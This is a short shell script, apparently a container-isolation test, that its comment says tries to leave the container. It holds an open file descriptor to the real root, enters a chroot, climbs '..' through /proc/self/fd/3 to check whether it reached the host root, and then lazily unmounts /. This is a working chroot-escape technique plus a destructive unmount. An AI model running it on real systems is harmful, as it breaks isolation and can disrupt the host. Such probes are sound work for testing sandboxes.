# Tries to leave the container, by a chroot and the mount below it.
exec 3</
busybox chroot /jail sh -c '
	up=/proc/self/fd/3 n=0
	for i in 1 2 3; do
		up=$up/..
		test "$(stat -c %i $up/.)" = '$(stat -c %i /)' && test -e $up/attack.sh && n=$((n+1))
	done
	echo inside $n'
umount -l /
exit 0
